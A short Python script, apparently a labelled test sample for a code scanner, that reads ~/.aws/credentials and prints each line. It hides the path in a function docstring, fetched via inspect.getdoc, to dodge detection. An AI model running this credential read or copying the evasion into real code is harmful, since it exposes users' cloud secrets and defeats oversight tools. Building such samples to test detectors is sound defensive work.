# HARM: reads and prints ~/.aws/credentials | TRICK: the secret path is only in a function docstring (ignored as a "use"), fetched with inspect.getdoc and read with open()
import inspect
import os


def credentials_location():
    """~/.aws/credentials"""


def main():
    path = os.path.expanduser(inspect.getdoc(credentials_location))
    with open(path) as fh:
        for line in fh:
            print(line.rstrip())


if __name__ == "__main__":
    main()
